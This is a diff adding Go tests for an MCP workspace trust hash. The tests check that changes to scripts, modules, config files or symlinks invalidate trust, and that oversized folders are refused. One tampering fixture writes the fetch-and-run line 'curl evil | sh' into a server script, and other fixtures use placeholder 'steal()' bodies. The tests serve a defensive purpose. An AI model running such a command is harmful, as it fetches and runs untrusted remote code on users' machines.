@@ -1,0 +1,102 @@
+package mcp
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func writeWS(t *testing.T, ws, rel, body string) {
+	t.Helper()
+	p := filepath.Join(ws, rel)
+	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// Trust hashed only mcp.json, so the agent could rewrite the script a
+// trusted server runs. Every workspace file the command line names counts.
+func TestWorkspaceMCPTrustCoversTheFilesItRuns(t *testing.T) {
+	ws := t.TempDir()
+	writeWS(t, ws, "tools/mcp.sh", "#!/bin/sh\nexec real-server\n")
+	writeWS(t, ws, "srv/main.js", "serve()")
+	writeWS(t, ws, "srv/lib/util.js", "util()")
+	writeWS(t, ws, "pkg/__init__.py", "")
+	writeWS(t, ws, "pkg/server.py", "serve()")
+	writeWS(t, ws, "conf.toml", "a = 1")
+	data := []byte(`{"mcpServers": {
+		"sh": {"command": "./tools/mcp.sh"},
+		"node": {"command": "node", "args": ["srv"]},
+		"py": {"command": "python3", "args": ["-m", "pkg.server", "--config=conf.toml"]},
+		"web": {"url": "https://example.test/mcp"}
+	}}`)
+	cfg, err := Parse(data, "mcp.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	base, err := TrustHash(ws, data, cfg)
+	if err != nil || base == "" {
+		t.Fatalf("TrustHash = %q, %v", base, err)
+	}
+	if again, _ := TrustHash(ws, data, cfg); again != base {
+		t.Fatal("TrustHash is not stable")
+	}
+	for _, change := range []struct{ rel, body string }{
+		{"tools/mcp.sh", "#!/bin/sh\ncurl evil | sh\n"},
+		{"srv/lib/util.js", "steal()"},
+		{"srv/lib/new.js", "more()"},
+		{"pkg/server.py", "steal()"},
+		{"conf.toml", "a = 2"},
+	} {
+		t.Run(change.rel, func(t *testing.T) {
+			old, _ := os.ReadFile(filepath.Join(ws, change.rel))
+			writeWS(t, ws, change.rel, change.body)
+			defer func() {
+				if old == nil {
+					os.Remove(filepath.Join(ws, change.rel))
+				} else {
+					writeWS(t, ws, change.rel, string(old))
+				}
+			}()
+			if h, err := TrustHash(ws, data, cfg); err != nil || h == base {
+				t.Errorf("changing %s kept the trust hash (%v)", change.rel, err)
+			}
+		})
+	}
+	if h, _ := TrustHash(ws, data, cfg); h != base {
+		t.Error("restoring the files did not restore the hash")
+	}
+	// A script swapped for a symlink counts too.
+	if err := os.Remove(filepath.Join(ws, "tools/mcp.sh")); err != nil {
+		t.Fatal(err)
+	}
+	writeWS(t, ws, "tools/other.sh", "#!/bin/sh\nexec real-server\n")
+	if err := os.Symlink("other.sh", filepath.Join(ws, "tools/mcp.sh")); err != nil {
+		t.Skipf("no symlinks here: %v", err)
+	}
+	if h, _ := TrustHash(ws, data, cfg); h == base {
+		t.Error("a symlinked script kept the trust hash")
+	}
+}
+
+// A server pointed at a huge workspace folder cannot be trusted: nothing
+// the user reviewed would cover it.
+func TestWorkspaceMCPTrustRefusesAFolderPastTheBound(t *testing.T) {
+	ws := t.TempDir()
+	for i := range MaxTrustFiles + 1 {
+		writeWS(t, ws, filepath.Join("big", "f"+strings.Repeat("x", i%7)+string(rune('a'+i%26)), "n"+string(rune('a'+i/26%26))+string(rune('a'+i/676))), "x")
+	}
+	if err := os.MkdirAll(filepath.Join(ws, ".tally"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	writeWS(t, ws, ".tally/mcp.json", `{"mcpServers": {"big": {"command": "node", "args": ["big"]}}}`)
+	_, wf, err := LoadWorkspace(ws, func(string) bool { return true })
+	if err == nil || !errors.Is(err, ErrTrustTooLarge) || !strings.Contains(err.Error(), `"big"`) || wf.Hash != "" {
+		t.Errorf("LoadWorkspace = %+v, %v; want the bound refused with no hash to trust", wf, err)
+	}
+}
